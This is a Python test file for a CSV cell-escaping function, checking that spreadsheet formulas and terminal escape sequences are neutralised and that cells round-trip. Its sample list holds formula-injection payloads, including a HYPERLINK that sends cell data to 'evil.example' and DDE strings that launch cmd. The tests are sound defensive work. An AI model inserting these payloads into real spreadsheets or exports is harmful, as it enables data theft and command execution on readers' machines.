"""CSV that a spreadsheet shows and does not run, and that is read back as it was stored."""

from __future__ import annotations

import csv
from io import StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from adapters.label_csv.csv_text import escape_cell, read_rows

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "|cmd",
    "%0A=1",
    "-1-1",
    "+ABC",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str) -> None:
    assert escape_cell(text).startswith("'")


@pytest.mark.parametrize(
    "value", [-1, -0.5, None, True, "", "-1", "+1.5", "-1e-3", ".5", "A1", "it's", "'quoted", "1.2.840.10008", "é"]
)
def test_other_cells_are_unchanged(value: object) -> None:
    assert escape_cell(value) == value


@given(st.text())
def test_no_cell_controls_a_terminal_or_begins_a_formula(text: str) -> None:
    shown = escape_cell(text)
    assert all(character.isprintable() for character in shown)
    assert shown.lstrip()[:1] not in {"=", "@", "\uff1d", "\uff20"}


@pytest.mark.parametrize("escape", ["\x1b]0;title\x07", "\x1b[31m", "\x9b2J", "\u202e", "\x00", "\x7f", "\u2028"])
def test_escape_sequences_of_terminals_are_left_out(escape: str) -> None:
    assert escape_cell(f"DX{escape}").isprintable()


@pytest.mark.parametrize("text", ["=1+1", "-ACC-1", "@reader", "+49", "plain", "'plain", "-1"])
def test_a_printable_cell_is_read_back_as_it_was_stored(text: str) -> None:
    out = StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["accession_number"])
    writer.writerow([escape_cell(text)])
    assert read_rows(out.getvalue().encode(), lambda _name: True).rows == [(2, [text])]
